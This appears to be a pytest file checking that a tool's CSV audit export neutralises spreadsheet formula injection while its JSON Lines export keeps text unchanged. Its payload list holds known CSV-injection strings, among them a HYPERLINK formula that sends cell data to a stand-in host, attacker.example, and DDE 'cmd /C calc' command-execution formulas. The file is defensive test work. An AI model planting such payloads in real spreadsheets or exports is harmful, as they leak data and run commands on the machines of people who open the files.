"""``suffice audit export --format csv`` neutralises every cell a spreadsheet would evaluate (OWASP's CSV injection
rule): records whose id, question and chunks are the known payloads are judged into a real audit log, exported, and
no cell of the export starts a formula; the JSON Lines export keeps the text as it was."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from suffice.cli.main import main
from suffice.exceptions import EXIT_OK
from suffice.judge import Judge
from tests.batch.test_runner import good
from tests.fakes import ScriptedEngine

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign: Excel reads it as one in some locales
    '=cmd|" /C calc"!A0',
]
#: What a spreadsheet reads as the start of a formula.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    records = [
        {"id": payload, "question": payload, "chunks": [{"id": f"c{i}", "text": payload, "source": payload}]}
        for i, payload in enumerate(PAYLOADS)
    ]
    source, db = tmp_path / "in.jsonl", tmp_path / "audit.db"
    source.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    engine = ScriptedEngine(good)
    monkeypatch.setattr(Judge, "open", classmethod(lambda cls, config: Judge(engine, config=config)))
    args = ["judge", str(source), "-o", str(tmp_path / "out.jsonl"), "--no-progress", "--audit-db", str(db)]
    assert main(args) == EXIT_OK
    return db


def test_no_cell_of_a_csv_export_starts_a_formula(db: Path, tmp_path: Path):
    out = tmp_path / "export.csv"
    assert main(["audit", "export", str(db), "--format", "csv", "-o", str(out)]) == EXIT_OK
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) - 1 == len(PAYLOADS)
    assert [cell for cell in cells if cell.startswith(STARTS)] == []
    neutralised = {cell[1:] for cell in cells if cell.startswith("'")}
    assert set(PAYLOADS) <= neutralised  # each payload is there, behind a quote


def test_the_json_lines_export_keeps_the_text_as_it_was(db: Path, tmp_path: Path):
    out = tmp_path / "export.jsonl"
    assert main(["audit", "export", str(db), "--format", "jsonl", "-o", str(out)]) == EXIT_OK
    rows = [json.loads(line) for line in out.read_bytes().decode("utf-8").split("\n") if line]
    assert {row["item_id"] for row in rows} == set(PAYLOADS)
    assert {row["chunks"][0]["source"] for row in rows} == set(PAYLOADS)


def test_numbers_and_plain_text_are_written_as_they_are():
    from suffice.formats.files.comma_separated import COMMA_SEPARATED

    [_, line] = COMMA_SEPARATED.lines([{"a": -1, "b": "a-b", "c": "=x", "d": None}], ["a", "b", "c", "d"])
    assert line == b"-1,a-b,'=x,\r\n"
